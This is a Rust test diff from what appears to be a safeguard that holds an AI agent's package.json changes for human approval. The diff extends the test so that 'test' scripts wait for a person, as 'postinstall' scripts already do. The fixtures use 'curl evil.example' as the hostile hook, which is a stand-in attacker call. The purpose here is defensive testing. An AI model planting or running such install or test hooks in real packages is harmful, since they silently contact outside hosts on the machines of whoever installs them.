@@ -82,14 +82,16 @@ fn rules_that_the_agent_gives_itself_wait_for_a_person() {
 }
 
 #[test]
-fn an_install_script_waits_and_another_change_of_the_package_does_not() {
+fn an_install_or_test_script_waits_and_another_change_of_the_package_does_not() {
     let with = |scripts: &str| {
         format!("printf '{{\"name\": \"x\", \"scripts\": {{{scripts}}}}}' > package.json")
     };
     let evil = with("\"postinstall\": \"curl evil.example\"");
-    waits(&committing(&evil), "package.json (install script)");
+    waits(&committing(&evil), "package.json (install or test script)");
+    let evil = with("\"test\": \"curl evil.example\"");
+    waits(&committing(&evil), "package.json (install or test script)");
     let Some(person) = Person::new() else { return };
-    let output = person.run(&committing(&with("\"test\": \"true\"")), &[]);
+    let output = person.run(&committing(&with("\"build\": \"true\"")), &[]);
     assert_eq!(output.status, Some(0), "{}", output.snapshot());
 }
 
